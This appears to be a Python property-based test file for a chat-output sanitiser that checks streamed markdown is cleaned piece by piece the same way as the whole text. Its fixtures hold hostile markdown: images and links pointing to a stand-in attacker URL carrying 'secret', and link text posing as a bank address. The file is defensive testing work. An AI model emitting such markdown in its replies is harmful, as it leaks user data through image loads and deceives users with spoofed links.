"""A growing answer is made fit to be shown piece by piece, as if it were looked at as a whole."""

from __future__ import annotations

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from dspy_session_chat.markup.outward import outward
from dspy_session_chat.markup.piecewise import Piecewise
from dspy_session_chat.markup.unfinished import finished

EVIL = "https://evil.example/?q=secret"
PIECES = (
    "words ",
    "\n",
    "\n\n",
    "- an item\n",
    "1. a first\n",
    "  indented\n",
    "    deep\n",
    "> quoted ",
    "# A head\n",
    "***\n",
    "---\n",
    "```\n",
    "```python\n",
    "~~~\n",
    "`",
    "| a | b |\n|---|---|\n| 1 | 2 |\n",
    f"![an image]({EVIL})",
    f"[https://bank.example]({EVIL})",
    "![an image][r]",
    "[https://bank.example][r]",
    f"[r]: {EVIL}\n",
    f"> [r]: {EVIL}\n",
    f"[r\n]: {EVIL}\n",
    "[https://bank.example\n",
    f"]({EVIL})",
    "<img src=x>",
    "xs[0]: int\n",
    "\r\n",
)


@given(st.lists(st.sampled_from(PIECES), max_size=8))
@example(["words ", "\n\n", "![an image][r]", "\n\n", "words ", "\n\n", f"[r]: {EVIL}\n"])
@example(["[https://bank.example\n", f"]({EVIL})", "\n\n", "words "])
@example(["```\n", "words ", "\n\n", "words ", "```\n", "\n\n", f"![an image]({EVIL})"])
def test_piece_by_piece_is_what_the_whole_would_be(pieces: list[str]) -> None:
    piecewise, text, shown = Piecewise(outward), "", ""
    for piece in pieces:
        text += piece
        shown = piecewise(finished(text))
    assert shown == outward(finished(text))
    assert outward(shown) == shown


def test_what_stands_for_good_is_looked_at_once() -> None:
    looked_at: list[str] = []

    def polish(text: str) -> str:
        looked_at.append(text)
        return outward(text)

    piecewise, text = Piecewise(polish), ""
    for number in range(60):
        text += f"Paragraph {number} has a [link](https://ok.example/{number}) in it.\n\n"
        assert piecewise(text) == text
    assert sum(map(len, looked_at)) < 3 * len(text)


def test_what_is_nested_without_end_is_shown_all_the_same() -> None:
    text = "> " * 5_000 + f"![an image]({EVIL})"
    assert Piecewise(outward)(text) == outward(text)


@pytest.mark.parametrize("other", ["one more", "two\n\nthree", ""])
def test_a_text_that_is_another_one_now_is_looked_at_anew(other: str) -> None:
    piecewise = Piecewise(outward)
    piecewise("one\n\ntwo\n\nthree")
    assert piecewise(other) == other
